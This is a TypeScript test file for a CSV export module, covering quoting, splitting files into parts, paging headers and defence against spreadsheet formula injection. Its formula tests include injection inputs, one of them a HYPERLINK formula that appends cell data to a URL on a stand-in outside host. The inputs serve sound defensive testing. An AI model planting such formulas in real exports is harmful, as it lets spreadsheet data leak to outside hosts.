/**
 * CSV files: written texts are read back unchanged, no cell is a formula, and the concatenated
 * parts are the whole.
 */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Columns, csvPart, fillPart, PART_BYTES, partHeaders } from '../../shared/http/csv.ts';

interface Row {
  readonly number: number;
  readonly text: string;
  readonly more?: string;
}
const COLUMNS: Columns<Row> = {
  序号: row => row.number,
  内容: row => row.text,
  备注: row => row.more,
};
const read = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false });

/** Characters that a spreadsheet may take for the start of a formula. */
const FORMULA = /^[\s]*[=+\-@＝＋－＠]|^\s/u;
const nasty = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n ;,"\'|\u3000\ufeff1A采纳') }),
);
const anyRow = fc.record({ number: fc.integer(), text: nasty, more: nasty });
/**
 * A text's cell: without blanks at its start, and with an apostrophe if it looks like a formula.
 */
const shown = (text: string): string => {
  const start = text.trimStart();
  return FORMULA.test(start) ? `'${start}` : start;
};

describe('a file', () => {
  it('begins with a byte order mark and its headings, and ends its lines as Windows does', () => {
    expect(
      csvPart(COLUMNS, [{ number: 1, text: '铁屑飞溅，"清理"费时\n每班两次' }], { first: true }),
    ).toBe('\ufeff序号,内容,备注\r\n1,"铁屑飞溅，""清理""费时\n每班两次",\r\n');
  });

  it('has its headings only in its first part', () => {
    expect(csvPart(COLUMNS, [], { first: false })).toBe('');
    expect(read(csvPart(COLUMNS, [], { first: true }))).toEqual([['序号', '内容', '备注']]);
  });

  it('returns any written text unchanged', () => {
    fc.assert(
      fc.property(fc.array(anyRow), rows => {
        const [header, ...cells] = read(csvPart(COLUMNS, rows, { first: true }));
        expect(header).toEqual(Object.keys(COLUMNS));
        expect(cells).toEqual(
          rows.map(row => [String(row.number), shown(row.text), shown(row.more)]),
        );
      }),
    );
  });
});

describe('a formula', () => {
  it.each([
    '=1+1',
    '+1',
    '-2+3',
    '@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u3000＝1',
    '\ufeff=1',
    '=HYPERLINK("http://example.com/?"&A1,"点这里")',
  ])('%j is written as text', text => {
    const [, cell = ''] = read(csvPart(COLUMNS, [{ number: 1, text }], { first: false }))[0] ?? [];
    expect(cell).toBe(`'${text.trimStart()}`);
  });

  it('is in no cell, whatever texts there are', () => {
    fc.assert(
      fc.property(fc.array(anyRow), rows => {
        const texts = read(csvPart(COLUMNS, rows, { first: false })).flatMap(
          ([, ...cells]) => cells,
        );
        expect(texts.filter(cell => FORMULA.test(cell))).toEqual([]);
      }),
    );
  });

  it('is not a negative number', () => {
    expect(csvPart(COLUMNS, [{ number: -5, text: '-5' }], { first: false })).toBe(`-5,'-5,\r\n`);
  });
});

async function* given(rows: readonly Row[]): AsyncGenerator<Row, void, undefined> {
  yield* rows;
}

/** All parts of a file, each after the last row of the one before. */
async function inParts(rows: readonly Row[], bytes: number): Promise<string[]> {
  const parts: string[] = [];
  for (let begin = 0; ; ) {
    const part = await fillPart(COLUMNS, given(rows.slice(begin)), { first: begin === 0, bytes });
    parts.push(part.text);
    if (part.last === undefined) return parts;
    begin = rows.indexOf(part.last) + 1;
  }
}

describe('parts', () => {
  it('make the whole file together, however small they are', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyRow), fc.integer({ min: 1, max: 400 }), async (rows, bytes) => {
        const parts = await inParts(rows, bytes);
        expect(parts.join('')).toBe(csvPart(COLUMNS, rows, { first: true }));
        expect(parts.slice(1).every(part => part !== '')).toBe(true);
      }),
    );
  });

  it('keep to their size, except for a single row that is too large', async () => {
    const rows = Array.from({ length: 50 }, (_, at) => ({
      number: at,
      text: '字'.repeat(at === 7 ? 500 : 20),
    }));
    const parts = await inParts(rows, 300);
    const large = parts.filter(part => Buffer.byteLength(part) > 300);
    expect(large).toEqual([csvPart(COLUMNS, rows.slice(7, 8), { first: false })]);
  });

  it('are read no further than the row that no longer fits', async () => {
    let taken = 0;
    async function* endless(): AsyncGenerator<Row, void, undefined> {
      for (;;) {
        taken += 1;
        yield { number: taken, text: '字'.repeat(1000) };
      }
    }
    const { text, last } = await fillPart(COLUMNS, endless(), { first: true });
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(PART_BYTES);
    expect(last?.number).toBe(taken - 1);
  });

  it('have the file’s name, and the address of the next part', () => {
    const route = { path: '/organizations/{organization}/members.csv' } as const;
    const file = 'members.csv';
    expect(partHeaders(route, { organization: 'huatai' }, { file, next: '64_甲' })).toEqual({
      'content-disposition': 'attachment; filename="members.csv"',
      link: `</api/organizations/huatai/members.csv?cursor=64_${encodeURIComponent('甲')}>; rel="next"`,
    });
    expect(
      partHeaders(route, { organization: 'huatai' }, { file, next: undefined }),
    ).not.toHaveProperty('link');
  });
});
